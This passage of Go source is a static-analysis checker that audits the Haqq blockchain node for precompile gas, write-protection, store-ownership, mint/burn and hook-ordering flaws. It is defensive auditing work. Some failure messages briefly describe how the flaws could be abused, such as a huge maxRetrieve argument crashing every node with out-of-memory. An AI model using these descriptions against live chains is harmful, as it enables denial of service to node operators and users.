					r.Bad("R16", fmt.Sprintf("%s#panicking-decoder-%s", fnID(fn), ci.Name), P.Pos(instrPos(ci.Instr)), "precompile code decodes an address with "+ci.Name+", which panics on input the error-returning decoder would reject (and HexAddressFromBech32String used to route the valid upper-case spelling of a validator address there): the transaction fails as an SDK panic where the native message succeeds or returns an error")
				}
				sig := ci.Instr.Common().Signature()
				if sig == nil {
					return
				}
				args := ci.Instr.Common().Args
				off := 0
				if ci.Instr.Common().IsInvoke() {
					off = 0
				} else if sig.Recv() != nil {
					off = 1
				}
				for i := 0; i < sig.Params().Len(); i++ {
					if sig.Params().At(i).Name() != "maxRetrieve" || i+off >= len(args) {
						continue
					}
					a := args[i+off]
					fromCalldata := false
					backSlice(a).Any(func(v ssa.Value) bool {
						if _, ok := v.(*ssa.TypeAssert); ok {
							fromCalldata = true
						}
						if _, ok := v.(*ssa.Parameter); ok {
							fromCalldata = true
						}
						return fromCalldata
					})
					if !fromCalldata {
						continue
					}
					nMax++
					idx++
					bounded := false
					av := stripValue(a)
					for _, b := range fn.Blocks {
						iff, ok := lastIf(b)
						if !ok || b == ci.Instr.Block() || !dominates(b, ci.Instr.Block()) {
							continue
						}
						if bo, ok := iff.Cond.(*ssa.BinOp); ok {
							switch bo.Op {
							case token.LSS, token.LEQ, token.GTR, token.GEQ:
								if backSlice(bo.X).Has(av) || backSlice(bo.Y).Has(av) {
									bounded = true
								}
							}
						}
					}
					r.Check(bounded, "R16", fmt.Sprintf("%s#maxRetrieve-%d-bounded", fnID(fn), idx), P.Pos(instrPos(ci.Instr)), "an ordering comparison of the value dominates the call",
						"a caller-chosen maxRetrieve is handed to "+ci.Name+" unchecked: the keeper allocates that many entries up front — claimRewards(owner, 2^32−1) makes every node exit with 'fatal error: out of memory' while executing the transaction")
				}
			})
		}
		if nMust == 0 {
			r.OK("R16", "precompiles#no-panicking-bech32-decoder", "", "no sdk.Must…Bech32 call in precompile code")
		}
		r.Floor("R16", "caller-chosen maxRetrieve arguments in precompiles", nMax, 1)
	}
	r.Rule("R17", "PATH.active-precompiles-exist: every EVM message builds its precompile map from Params.ActivePrecompiles, and the keeper panics on an address it cannot instantiate — so a parameter set is stored from outside (UpdateParams, InitGenesis) only after every listed address passed IsAvailablePrecompile: a governance update or a genesis naming a precompile this chain does not have (the upstream vesting precompile at 0x…0803) otherwise makes every precompile call fail, with the whole gas limit charged, where the native messages keep working")
	for _, id := range []string{"(*x/evm/keeper.Keeper).UpdateParams", "x/evm.InitGenesis"} {
		fn, ok := P.FnOK(id)
		if !ok {
			r.Bad("R17", "anchor/"+id, "", "not found")
			continue
		}
		isAvail := isCallMatching(func(ci CallInfo) bool { return ci.Name == "IsAvailablePrecompile" })
		isSet := isCallMatching(func(ci CallInfo) bool { return ci.Name == "SetParams" })
		// the test sits in a loop over the listed addresses (an empty list passes trivially), before the store
		var w []ssa.Instruction
		avail := findCalls(fn, func(ci CallInfo) bool { return ci.Name == "IsAvailablePrecompile" })
		sets := findCalls(fn, func(ci CallInfo) bool { return ci.Name == "SetParams" })
		orderOK := len(avail) > 0 && len(sets) > 0
		for _, a := range avail {
			for _, st := range sets {
				if !instrMayPrecede(a, st) || instrMayPrecede(st, a) {
					orderOK = false
				}
			}
		}
		_ = isAvail
		// … and the check has teeth: its failing side does not reach SetParams
		teeth := false
		for _, b := range fn.Blocks {
			iff, isIf := lastIf(b)
			if !isIf || !backSlice(iff.Cond).HasCall(func(g CallInfo) bool { return g.Name == "IsAvailablePrecompile" }) {
				continue
			}
			for _, sc := range b.Succs {
				if (PathQuery{Fn: fn, StartBlock: sc, Target: isSet}).Search() == nil {
					teeth = true
				}
			}
		}
		r.Check(orderOK && teeth, "R17", fnID(fn)+"#active-precompiles-are-available", P.Pos(fnPos(fn)), "SetParams only after IsAvailablePrecompile, whose failing side never stores",
			"a parameter set is stored without checking that every active precompile can be instantiated: one unknown address makes every later EVM message panic", P.witness(w)...)
	}
	r.Rule("R18", "FLOW.bank-figures-are-the-bank's-own: what the bank precompile packs as a balance or a supply is the amount the bank keeper returned — no sdk.Int arithmetic (Sub, Add, Mul, Quo) lies between the keeper read and the packed value, in the handler or in a helper it calls: a supply 'net of the erc20 escrow' or a balance 'plus the token holdings' is another figure than the bank module reports")
	{
		nQ := 0
		for _, id := range []string{"(precompiles/bank.Precompile).Balances", "(precompiles/bank.Precompile).TotalSupply", "(precompiles/bank.Precompile).SupplyOf"} {
			fn, ok := P.FnOK(id)
			if !ok {
				r.Bad("R18", "anchor/"+id, "", "not found")
				continue
			}
			nQ++
			bad := ""
			var scan func(f *ssa.Function, depth int)
			seenF := map[*ssa.Function]bool{}
			scan = func(f *ssa.Function, depth int) {
				if f == nil || f.Blocks == nil || seenF[f] || depth > 2 {
					return
				}
				seenF[f] = true
				for _, g := range withAnon(f) {
					eachCall(g, func(ci CallInfo) {
						if ci.Recv == "Int" && strings.HasSuffix(ci.PkgPath, "cosmossdk.io/math") {
							switch ci.Name {
							case "Sub", "Add", "Mul", "Quo", "SubRaw", "AddRaw", "MulRaw", "QuoRaw", "Neg":
								if bad == "" {
									bad = ci.Name + " at " + P.Pos(instrPos(ci.Instr))
								}
							}
						}
						if ci.Static != nil && strings.Contains(fnPkgPath(ci.Static), "/precompiles/bank") {
							scan(ci.Static, depth+1)
						}
					})
				}
			}
			scan(fn, 0)
			r.Check(bad == "", "R18", fnID(fn)+"#figures-unedited", P.Pos(fnPos(fn)), "no sdk.Int arithmetic between the bank read and the packed answer",
				"the bank precompile computes with the amounts it read ("+bad+"): the figure it reports is no longer the bank module's balance or supply")
		}
		r.Floor("R18", "bank precompile read methods", nQ, 3)
	}
	// RunSetup
	if rs, ok := P.FnOK("(precompiles/common.Precompile).RunSetup"); ok {
		okMeter := false
		eachCall(rs, func(ci CallInfo) {
			if ci.Name == "NewGasMeter" {
				if backSlice(argN(ci.Instr, 0)).HasField("Contract", "Gas") {
					okMeter = true
				}
			}
		})
		r.Check(okMeter, "R3", fnID(rs)+"#gas-meter-limit", P.Pos(fnPos(rs)), "SDK gas meter limited by contract.Gas", "RunSetup does not install an SDK gas meter limited by the EVM contract's gas: Cosmos-side work would not be bounded by the gas the caller paid for")
		// what is charged to the fresh meter up front (the gas the transaction's meter already shows: earlier messages of
		// a multi-message Ethereum tx, ante reads) is part of its limit — otherwise it comes out of this call's gas
		{
			var limit ssa.Value
			eachCall(rs, func(ci CallInfo) {
				if ci.Name == "NewGasMeter" {
					limit = argN(ci.Instr, 0)
				}
			})
			okPre, nPre := true, 0
			eachCall(rs, func(ci CallInfo) {
				if ci.Name != "ConsumeGas" {
					return
				}
				amt := ci.Instr.Common().Args[0]
				pre := false
				var src ssa.Value
				backSlice(amt).Any(func(v ssa.Value) bool {
					if c, ok := v.(*ssa.Call); ok && callInfo(c).Name == "GasConsumed" {
						pre, src = true, v
					}
					return pre
				})
				if !pre {
					return
				}
				nPre++
				if limit == nil || !backSlice(limit).Has(src) {
					okPre = false
				}
			})
			r.Check(okPre && nPre >= 1, "R3", fnID(rs)+"#gas-meter-limit-covers-precharge", P.Pos(fnPos(rs)), "limit = gas already consumed + contract.Gas",
				"RunSetup charges the gas already shown by the transaction's meter to the fresh meter but does not include it in that meter's limit: in the second and later messages of a multi-message Ethereum transaction a precompile call has contract.Gas minus the earlier messages' gas, fails with a spurious out-of-gas, and the message is charged its whole gas limit")
		}
		okRO := false
		// readOnly && isTransaction → ErrWriteProtection
		eachInstr(rs, func(in ssa.Instruction) {
			if u, ok := in.(*ssa.UnOp); ok {
				if g, ok := u.X.(*ssa.Global); ok && g.Name() == "ErrWriteProtection" {
					okRO = true
				}
			}
		})
		// as a path rule: on the readOnly edge the classification callback is consulted before any success exit, and
		// its true edge (the method is a transaction) reaches no success exit
		var isTxParam *ssa.Parameter
		for _, p := range rs.Params {
			if _, isSig := p.Type().Underlying().(*types.Signature); isSig && p.Name() == "isTransaction" {
				isTxParam = p
			}
		}
		roEdges := paramBoolEdges(rs, "readOnly")
		okPath := isTxParam != nil && len(roEdges) > 0
		var witRO []string
		if okPath {
			isClassify := func(in ssa.Instruction) bool {
				c, ok := in.(ssa.CallInstruction)
				return ok && c.Common().Value == ssa.Value(isTxParam)
			}
			for _, e := range roEdges {
				if w := (PathQuery{Fn: rs, StartBlock: e.From.Succs[e.Succ], Block: isClassify, Target: isSuccessExit}).Search(); w != nil {
					okPath = false
					witRO = P.witness(w)
				}
			}
			txTrue, _ := guardPassEdges(rs, func(cond ssa.Value) (bool, bool) {
				c, ok := cond.(*ssa.Call)
				return true, ok && c.Call.Value == ssa.Value(isTxParam)
			})
			// only the classification that is evaluated on the readOnly side: its true edge is "read-only frame, transaction method"
			// (RunSetup may classify the method again for other refusals, e.g. the erc20 module account as origin)
			var roTx []Edge
			for _, e := range txTrue {
				for _, re := range roEdges {
					rb := re.From.Succs[re.Succ]
					if rb == e.From || dominates(rb, e.From) {
						roTx = append(roTx, e)
						break
					}
				}
			}
			txTrue = roTx
			if len(txTrue) == 0 {
				okPath = false
			}
			for _, e := range txTrue {
				if w := (PathQuery{Fn: rs, StartBlock: e.From.Succs[e.Succ], Target: isSuccessExit}).Search(); w != nil {
					okPath = false
					witRO = P.witness(w)
				}
			}
		}
		r.Check(okRO && okPath, "R3", fnID(rs)+"#write-protection", P.Pos(fnPos(rs)), "in a read-only frame the method is classified before any success exit and a transaction method fails", "RunSetup can succeed for a transaction method in a read-only (STATICCALL) frame: a static call changes Cosmos state", witRO...)
		// every wired stateful precompile hands RunSetup its own IsTransaction
		for _, m := range wiredPrecompiles(r) {
			if !m.Stateful || m.Run == nil {
				continue
			}
			okOwn := false
			eachCall(m.Run, func(ci CallInfo) {
				if ci.Name != "RunSetup" {
					return
				}
				for _, a := range ci.Instr.Common().Args {
					if mc, ok := a.(*ssa.MakeClosure); ok {
						if f, ok := mc.Fn.(*ssa.Function); ok && strings.Contains(f.Name(), "IsTransaction") && m.IsTxFn != nil && strings.Contains(f.String(), m.Rel) {
							okOwn = true
						}
					}
				}
			})
			r.Check(okOwn, "R3", fnID(m.Run)+"#own-classification", P.Pos(fnPos(m.Run)), "Run hands RunSetup the precompile's own IsTransaction", "Run does not hand RunSetup this precompile's own IsTransaction: the write protection of read-only frames is decided by another classification")
		}
	} else {
		r.Bad("R3", "anchor/RunSetup", "", "precompiles/common.Precompile.RunSetup not found")
	}
}

func gasRule(r *Run, m *pcModel) {
	P := r.P
	run := m.Run
	var useGas []ssa.CallInstruction
	eachCall(run, func(ci CallInfo) {
		if ci.Name == "UseGas" && ci.Recv == "Contract" {
			sl := backSlice(argN(ci.Instr, 0))
			dep := sl.HasCall(func(g CallInfo) bool { return g.Name == "GasConsumed" })
			// initialGas = result #3 of RunSetup
			depInit := sl.Any(func(v ssa.Value) bool {
				e, ok := v.(*ssa.Extract)
				if !ok {
					return false
				}
				c, ok := e.Tuple.(*ssa.Call)
				return ok && callInfo(c).Name == "RunSetup" && e.Index == 3
			})
			if dep && depInit {
				useGas = append(useGas, ci.Instr)
			}
		}
	})
	inst := fnID(run) + "#gas-charged"
	if len(useGas) == 0 {
		r.Bad("R3", inst, P.Pos(fnPos(run)), "Run does not charge contract.UseGas(ctx.GasMeter().GasConsumed() − initialGas)")
		return
	}
	// the edge on which UseGas returned true
	var okEdges []Edge
	for _, b := range run.Blocks {
		if ifi, ok := lastIf(b); ok {
			for _, u := range useGas {
				if stripNot(ifi.Cond) == u.Value() {
					if ifi.Cond == u.Value() {
						okEdges = append(okEdges, Edge{b, 0})
					} else {
						okEdges = append(okEdges, Edge{b, 1})
					}
				}
			}
		}
	}
	// every success exit after a handler call must be reached through an ok edge
	handlerCall := func(in ssa.Instruction) bool {
		for _, h := range m.Handlers {
			if h.Call != nil && ssa.Instruction(h.Call) == in {
				return true
			}
		}
		return false
	}
	bad := 0
	for _, h := range m.Handlers {
		if h.Call == nil {
			continue
		}
		w := PathQuery{Fn: run, Start: h.Call, Target: func(in ssa.Instruction) bool {
			ret, ok := in.(*ssa.Return)
			if !ok {
				return false
			}
			return classifyExit(ret) == ExitSuccess
		}, DelEdge: edgeSet(okEdges)}.Search()
		if w != nil {
			bad++
			r.Bad("R3", inst+"/"+h.Method, P.Pos(instrPos(h.Call)), "after this handler Run can return success without a successful contract.UseGas for the SDK gas it consumed", P.witness(w)...)
		}
	}
	_ = handlerCall
	if bad == 0 {
		r.OK("R3", inst, P.Pos(fnPos(run)), fmt.Sprintf("success only through UseGas(consumed−initial)==true after each of %d handlers", len(m.Handlers)))
	}
}

func stripNot(v ssa.Value) ssa.Value {
	for {
		u, ok := v.(*ssa.UnOp)
		if !ok || u.Op.String() != "!" {
			return v
		}
		v = u.X
	}
}

// decoderCoherent: in decoder D (results: message, address, error) every return of a non-nil message
// must return an address that the message depends on.
func decoderCoherent(r *Run, rule string, dec *ssa.Function) {
	P := r.P
	res := dec.Signature.Results()
	msgIdx, addrIdx := -1, -1
	for i := 0; i < res.Len(); i++ {
		t := res.At(i).Type()
		if _, ok := t.(*types.Pointer); ok && strings.HasPrefix(namedName(t), "Msg") {
			msgIdx = i
		}
		if namedName(t) == "Address" {
			addrIdx = i
		}
	}
	if msgIdx < 0 || addrIdx < 0 {
		return
	}
	inst := fnID(dec) + "#message-names-returned-address"
	ok, n := true, 0
	eachInstr(dec, func(in ssa.Instruction) {
		ret, isRet := in.(*ssa.Return)
		if !isRet {
			return
		}
		ops := retOperands(ret)
		if isNilConst(ops[msgIdx]) {
			return
		}
		n++
		addr := stripValue(ops[addrIdx])
		sl := backSlice(ops[msgIdx])
		if !sl.Has(addr) && !sl.Has(ops[addrIdx]) {
			// reverse direction: the address is computed from a field of the message
			asl := backSlice(ops[addrIdx])
			msgV := stripValue(ops[msgIdx])
			rev := asl.Has(msgV) || asl.Any(func(v ssa.Value) bool {
				fa, isFA := v.(*ssa.FieldAddr)
				return isFA && fa.X == msgV
			})
			if !rev {
				ok = false
			}
		}
	})
	r.Check(ok && n > 0, rule, inst, P.Pos(fnPos(dec)), "the returned message depends on the returned address",
		"the decoder returns an address that does not flow into the message it builds: the identity check in the handler would guard a different account than the one the message acts for")
}

func diffSets(a, b []string) []string {
	m := map[string]bool{}
	for _, x := range b {
		m[x] = true
	}
	var out []string
	for _, x := range a {
		if !m[x] {
			out = append(out, x)
		}
	}
	return out
}

func uniq(a []string) []string {
	var out []string
	for i, x := range a {
		if i == 0 || a[i-1] != x {
			out = append(out, x)
		}
	}
	return out
}
