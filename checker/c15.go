package main

import (
	"go/token"
	"go/types"
	"fmt"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID:  "C15",
		Run: runC15,
		Explanation: "Static analysis of who can touch which books: (R1) every KV/transient store opened by Haqq code is opened with a key that is a field of a keeper, and that field is wired in NewHaqq to the store key of the keeper's own module — foreign stores are opened only at tabled sites (the burn redirection into the distribution fee pool, which C14 pairs with the coin move; store migrations; one upgrade handler; the zero-height export); " +
			"(R2) every MintCoins/BurnCoins call site in Haqq code names a constant module account and belongs to the confirmed minting sites of that account; nobody opens the bank store; (R3) the module manager's invariants are registered with the crisis keeper and crisis runs first in EndBlock; (R4 = C14's rule R2, same code) the burn redirection writes the fee-pool record together with the coin move into the distribution account, so the distribution module's can-withdraw/module-account invariant cannot see a pool that runs ahead of or behind the account; (R5 = C02's rule R3, same code) the only Haqq path that mints and burns without a message — the EVM balance write-back — mints/burns exactly the delta to the bank balance, pairs it with the matching send, writes every journal-dirty account and journals nothing for a zero amount. That the registered invariants actually hold after every block is run-time behaviour and is not decided.",
		Assumptions: []string{"cosmos-sdk bank/staking/distribution/gov keep their own invariants when used through their keeper APIs"},
		Declined:    []string{"truth of the registered invariants after every block (sum of balances = supply, pools match records, ...)"},
	})
}

// foreign-store exceptions: function → reason
var foreignStoreExceptions = map[string]string{
	"(x/bank/keeper.BaseKeeper).BurnCoins":             "redirected burns credit the distribution fee pool (paired with the coin move, see C14 R2)",
	"app/upgrades/v1.8.0.fixUCDAOTotalBalance":         "one-off upgrade repair of the ucdao total (store key handed in by the upgrade wiring)",
	"(*app.Haqq).prepForZeroHeightGenesis":             "zero-height export resets staking records (export only, not consensus)",
}

// exceptionStoreModule: for exceptions whose key arrives as a parameter, the module store the wiring must hand in
var exceptionStoreModule = map[string]string{
	"app/upgrades/v1.8.0.fixUCDAOTotalBalance": "ucdao",
}

// traceStoreKeyConst follows a store-key value back through parameters, closure bindings and static callers to
// the constant(s) used to index the app's keys map.
func traceStoreKeyConst(P *Prog, fn *ssa.Function, v ssa.Value, depth int) []string {
	out := map[string]bool{}
	var rec func(fn *ssa.Function, v ssa.Value, d int)
	rec = func(fn *ssa.Function, v ssa.Value, d int) {
		if d < 0 || v == nil {
			out["?"] = true
			return
		}
		switch x := stripValue(v).(type) {
		case *ssa.Lookup:
			if s, ok := constString(x.Index); ok {
				out[s] = true
				return
			}
			out["?"] = true
		case *ssa.Parameter:
			idx := -1
			for i, p := range fn.Params {
				if p == x {
					idx = i
				}
			}
			n := 0
			for _, caller := range P.Funcs {
				eachCall(caller, func(ci CallInfo) {
					if ci.Static == fn && idx >= 0 && idx < len(ci.Instr.Common().Args) {
						n++
						rec(caller, ci.Instr.Common().Args[idx], d-1)
					}
				})
			}
			if n == 0 {
				out["?"] = true
			}
		case *ssa.FreeVar:
			if b := freeVarBinding(x); b != nil && fn.Parent() != nil {
				rec(fn.Parent(), b, d-1)
				return
			}
			out["?"] = true
		case *ssa.MakeInterface:
			rec(fn, x.X, d)
		case *ssa.UnOp:
			if al, ok := x.X.(*ssa.Alloc); ok {
				for _, st := range storesInto(al) {
					rec(fn, st.Val, d-1)
				}
				return
			}
			// variable captured by reference: the cell is an Alloc of the parent
			if fv, ok := x.X.(*ssa.FreeVar); ok && fn.Parent() != nil {
				if al, ok := freeVarBinding(fv).(*ssa.Alloc); ok {
					for _, st := range storesInto(al) {
						rec(fn.Parent(), st.Val, d-1)
					}
					return
				}
			}
			out["?"] = true
		default:
			out["?"] = true
		}
	}
	rec(fn, v, depth)
	var res []string
	for k := range out {
		res = append(res, k)
	}
	sort.Strings(res)
	return res
}

func runC15(r *Run) {
	P := r.P
	r.Rule("R1", "OWN.store-ownership: each KVStore/TransientStore/GetKVStore call's key is (a) a StoreKey field of a Haqq keeper whose NewHaqq wiring is keys[<own module>.StoreKey] / tkeys[<own module>.TransientKey], or (b) a parameter of a store-migration function, or (c) a tabled exception")
	r.Rule("R2", "OWN.mint-burn-authority: every MintCoins/BurnCoins site has a constant module name among {evm, erc20, liquidvesting, coinomics} and is one of that account's confirmed sites (C02/C10/C11/C13 tables), or forwards its own parameter (bank override)")
	r.Rule("R3", "TABLE: NewHaqq calls mm.RegisterInvariants(&app.CrisisKeeper); crisis is the first module of SetOrderEndBlockers")

	// ---- keeper store-key fields and their wiring ----
	type keyField struct {
		key   string // pkg.Type.field
		owner string // module name derived from package path x/<m>/keeper
	}
	// wiring: constructor call sites in NewHaqq: for each Haqq constructor param that is stored into a StoreKey field
	wiring := map[string]string{} // field key -> constant store key name used in NewHaqq
	nh, okNH := P.FnOK("app.NewHaqq")
	if !okNH {
		r.Bad("R1", "anchor/NewHaqq", "", "not found")
		return
	}
	isStoreKeyType := func(v ssa.Value) bool {
		n := namedName(v.Type())
		return n == "StoreKey" || n == "KVStoreKey" || n == "TransientStoreKey" || n == "MemoryStoreKey"
	}
	// constructor summaries: param index -> field key
	ctorFields := map[*ssa.Function]map[int]string{}
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Parent() != nil || !strings.HasPrefix(fn.Name(), "New") {
			continue
		}
		eachInstr(fn, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok || !isStoreKeyType(st.Val) {
				return
			}
			k, ok := fieldKeyOfAddr(st.Addr)
			if !ok || !isHaqqPath(k) {
				return
			}
			for i, p := range fn.Params {
				if stripValue(st.Val) == ssa.Value(p) {
					if ctorFields[fn] == nil {
						ctorFields[fn] = map[int]string{}
					}
					ctorFields[fn][i] = k
				}
			}
		})
	}
	eachCall(nh, func(ci CallInfo) {
		if ci.Static == nil {
			return
		}
		for i, fk := range ctorFields[ci.Static] {
			a := stripValue(ci.Instr.Common().Args[i])
			if l, ok := a.(*ssa.Lookup); ok {
				if s, ok := constString(l.Index); ok {
					wiring[fk] = s
				}
			}
		}
	})
	r.Floor("R1", "store-key fields wired in NewHaqq", len(wiring), 8)
	moduleOfField := func(fk string) string {
		// github.com/haqq-network/haqq/x/<m>/keeper.Keeper.storeKey → <m>
		rel := strings.TrimPrefix(fk, haqqMod+"/")
		parts := strings.Split(rel, "/")
		if len(parts) >= 2 && parts[0] == "x" {
			if parts[1] == "ibc" && len(parts) >= 3 {
				return parts[2]
			}
			return parts[1]
		}
		return ""
	}
	// expected store key per module: constant StoreKey / TransientKey of x/<m>/types (or the SDK module wrapped)
	expectedKeys := func(mod string) map[string]bool {
		out := map[string]bool{}
		for _, pk := range []string{haqqMod + "/x/" + mod + "/types", "github.com/cosmos/cosmos-sdk/x/" + mod + "/types", "github.com/cosmos/ibc-go/v7/modules/apps/" + mod + "/types"} {
			for _, c := range []string{"StoreKey", "TransientKey", "MemStoreKey"} {
				if s, ok := P.constOf(pk, c); ok {
					out[s] = true
				}
			}
		}
		return out
	}
	var fks []string
	for fk := range wiring {
		fks = append(fks, fk)
	}
	sort.Strings(fks)
	for _, fk := range fks {
		mod := moduleOfField(fk)
		inst := "wiring/" + strings.TrimPrefix(fk, haqqMod+"/")
		if strings.HasSuffix(fk, "x/bank/keeper.BaseKeeper.distrStoreKey") {
			dk, _ := P.constOf("github.com/cosmos/cosmos-sdk/x/distribution/types", "StoreKey")
			r.Check(wiring[fk] == dk, "R1", inst, "", "tabled: the bank override's second key is the distribution store", "the bank override's distribution store key is wired to "+wiring[fk])
			continue
		}
		exp := expectedKeys(mod)
		r.Check(exp[wiring[fk]], "R1", inst, "", "wired to its own module's store key "+wiring[fk], fmt.Sprintf("keeper field %s of module %q is wired to store key %q, which is not that module's own store key %v: the keeper would read and write another module's books", fk, mod, wiring[fk], sortedKeys(exp)))
	}
	// ---- every store-open call site ----
	nOpen := 0
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Synthetic != "" || isGeneratedFile(P.FileOf(fnPos(outermost(fn)))) {
			continue
		}
		rel := strings.TrimPrefix(fnPkgPath(fn), haqqMod+"/")
		if strings.HasPrefix(rel, "cmd/") || strings.HasPrefix(rel, "rpc") || strings.HasPrefix(rel, "server") || strings.HasPrefix(rel, "indexer") || strings.HasPrefix(rel, "client") {
			continue
		}
		owner := fnID(outermost(fn))
		eachCall(fn, func(ci CallInfo) {
			if ci.Name != "KVStore" && ci.Name != "GetKVStore" && ci.Name != "TransientStore" {
				return
			}
			if !(ci.Recv == "Context" || ci.Recv == "MultiStore" || ci.Recv == "CacheMultiStore") {
				return
			}
			nOpen++
			keyArg := argN(ci.Instr, 0)
			inst := owner + "#opens-store"
			where := P.Pos(instrPos(ci.Instr))
			// (a) keeper field
			var fkey string
			backSlice(keyArg).Any(func(v ssa.Value) bool {
				if k, ok := fieldKeyOfAddr(v); ok && isHaqqPath(k) {
					fkey = k
				}
				if k, ok := fieldKeyOfValue(v); ok && isHaqqPath(k) {
					fkey = k
				}
				return false
			})
			if fkey != "" {
				if _, wired := wiring[fkey]; wired {
					// the field must belong to the keeper of the package that opens it
					fmod, omod := moduleOfField(fkey), moduleOfField(fnPkgPath(fn)+".x.y")
					if why, ok := foreignStoreExceptions[owner]; ok && strings.HasSuffix(fkey, "distrStoreKey") {
						r.OK("R1", inst+"/"+strings.TrimPrefix(fkey, haqqMod+"/"), where, "tabled exception: "+why)
						return
					}
					r.Check(fmod == omod || omod == "", "R1", inst+"/"+strings.TrimPrefix(fkey, haqqMod+"/"), where, "own keeper field", fmt.Sprintf("function of module %q opens a store through %s (module %q)", omod, fkey, fmod))
					return
				}
				if strings.HasSuffix(fkey, "app.Haqq.keys") {
					if why, ok := foreignStoreExceptions[owner]; ok {
						r.OK("R1", inst, where, "tabled exception: "+why)
					} else {
						r.Bad("R1", inst, where, "the app opens a module store directly through app.keys outside the tabled export helper")
					}
					return
				}
				r.Bad("R1", inst+"/"+strings.TrimPrefix(fkey, haqqMod+"/"), where, "store opened through field "+fkey+" whose wiring in NewHaqq could not be resolved")
				return
			}
			// (b) migrations: key is a parameter
			if strings.Contains(fnPkgPath(fn), "/migrations/") && backSlice(keyArg).Any(func(v ssa.Value) bool { _, ok := v.(*ssa.Parameter); return ok }) {
				r.OK("R1", inst, where, "store migration: key handed in by the module's Migrator")
				return
			}
			if why, ok := foreignStoreExceptions[owner]; ok {
				// the reason names whose store it is: when the key is a parameter, resolve what the wiring hands in
				if want, ok := exceptionStoreModule[owner]; ok {
					got := traceStoreKeyConst(P, fn, keyArg, 5)
					r.Check(len(got) == 1 && got[0] == want, "R1", inst, where, "tabled exception: "+why+" (wiring hands in keys["+want+"])",
						fmt.Sprintf("the tabled upgrade repair is handed store key(s) %v by the app wiring, not only the %q store it is tabled for: it would rewrite another module's records", got, want))
					return
				}
				r.OK("R1", inst, where, "tabled exception: "+why)
				return
			}
			r.Bad("R1", inst, where, "a store is opened with a key that is neither a wired keeper field nor a tabled exception: Haqq code may be editing another module's books directly")
		})
	}
	r.Floor("R1", "store-open call sites", nOpen, 30)

	// ---- R2 ----
	seenMB := map[string]int{}
	nMB := 0
	for _, s := range mintBurnSites(P) {
		owner := fnID(outermost(s.Fn))
		rel := strings.TrimPrefix(fnPkgPath(s.Fn), haqqMod+"/")
		if strings.HasPrefix(rel, "rpc") || strings.HasPrefix(rel, "cmd/") {
			continue
		}
		nMB++
		inst := owner + "#" + s.Kind
		where := P.Pos(instrPos(s.Call))
		if !s.Const {
			_, ok := mintBurnPassThrough[owner]
			r.Check(ok, "R2", inst, where, "forwards its own module-name parameter (bank override)", s.Kind+" with a non-constant module account name")
			continue
		}
		seenMB[inst+"/"+s.Module]++
		want := confirmedMintBurn[s.Module][owner][s.Kind]
		r.Check(want > 0 && seenMB[inst+"/"+s.Module] <= want, "R2", inst+"/"+s.Module, where, "confirmed site", fmt.Sprintf("%s for module account %q from %s is not a confirmed %s site of that account, or is an additional call site in a confirmed function (confirmed: %s)", s.Kind, s.Module, owner, s.Kind, confirmedSites(s.Module)))
	}
	r.Floor("R2", "mint/burn call sites", nMB, 9)

	// ---- R3 ----
	okInv := false
	eachCall(nh, func(ci CallInfo) {
		if ci.Name == "RegisterInvariants" && ci.Recv == "Manager" {
			if backSlice(argN(ci.Instr, 0)).HasField("Haqq", "CrisisKeeper") {
				okInv = true
			}
		}
	})
	r.Check(okInv, "R3", "app.NewHaqq#invariants-registered", P.Pos(fnPos(nh)), "mm.RegisterInvariants(&app.CrisisKeeper)", "the module invariants are no longer registered with the crisis keeper")
	crisis, _ := P.constOf("github.com/cosmos/cosmos-sdk/x/crisis/types", "ModuleName")
	okFirst := false
	eachCall(nh, func(ci CallInfo) {
		if ci.Name == "SetOrderEndBlockers" {
			a := ci.Instr.Common().Args
			if sl, ok := a[len(a)-1].(*ssa.Slice); ok {
				if al, ok := sl.X.(*ssa.Alloc); ok {
					for _, ref := range *al.Referrers() {
						if ia, ok := ref.(*ssa.IndexAddr); ok {
							if c, ok := ia.Index.(*ssa.Const); ok && c.Int64() == 0 {
								for _, r2 := range *ia.Referrers() {
									if st, ok := r2.(*ssa.Store); ok {
										if s, ok := constString(st.Val); ok && s == crisis {
											okFirst = true
										}
									}
								}
							}
						}
					}
				}
			}
		}
	})
	r.Check(okFirst, "R3", "app.NewHaqq#crisis-first-in-endblock", P.Pos(fnPos(nh)), "crisis is the first EndBlocker", "the crisis module is not the first module of SetOrderEndBlockers (invariants would be checked before other modules' end-block changes … or not against the block's final state as designed)")

	// ---- R6: hooks are installed before a keeper is copied by value ----
	r.Rule("R6", "PATH.hooks-before-copy: in NewHaqq, for every keeper type with a SetHooks method, each by-value copy of that keeper (a load of the keeper struct through a pointer, e.g. *app.StakingKeeper.Keeper handed to another module's constructor) is preceded by the SetHooks call — a copy taken earlier has nil hooks, so operations done through it (vesting's delegateVestedCoins) skip the distribution/slashing hooks and break the reference-count and can-withdraw invariants")
	{
		type hk struct {
			t    types.Type
			call ssa.CallInstruction
		}
		var hooks []hk
		eachCall(nh, func(ci CallInfo) {
			if ci.Name != "SetHooks" || ci.Static == nil || ci.Static.Signature.Recv() == nil {
				return
			}
			hooks = append(hooks, hk{deref(ci.Static.Signature.Recv().Type()), ci.Instr})
		})
		r.Floor("R6", "SetHooks calls in NewHaqq", len(hooks), 4)
		nCopies := 0
		perType := map[string]int{}
		for _, h := range hooks {
			hname := namedPkgPath(h.t) + "." + namedName(h.t)
			isSet := func(in ssa.Instruction) bool { return in == ssa.Instruction(h.call) }
			eachInstr(nh, func(in ssa.Instruction) {
				u, ok := in.(*ssa.UnOp)
				if !ok || u.Op != token.MUL || !types.Identical(u.Type(), h.t) {
					return
				}
				if _, isStruct := u.Type().Underlying().(*types.Struct); !isStruct {
					return
				}
				// the copy made from SetHooks' own result is by construction after it
				if c, ok := u.X.(*ssa.Call); ok && ssa.Instruction(c) == ssa.Instruction(h.call) {
					return
				}
				nCopies++
				perType[hname]++
				w := PathQuery{Fn: nh, Block: isSet, Target: func(x ssa.Instruction) bool { return x == ssa.Instruction(u) }}.Search()
				r.Check(w == nil, "R6", fmt.Sprintf("app.NewHaqq#copy-of-%s-%d", strings.TrimPrefix(hname, haqqMod+"/"), perType[hname]), P.Pos(instrPos(u)), "copied after SetHooks",
					"the keeper "+hname+" is copied by value before its SetHooks call: the copy keeps nil hooks, and whoever holds it changes that module's state without the other modules' bookkeeping hooks", P.witness(w)...)
			})
		}
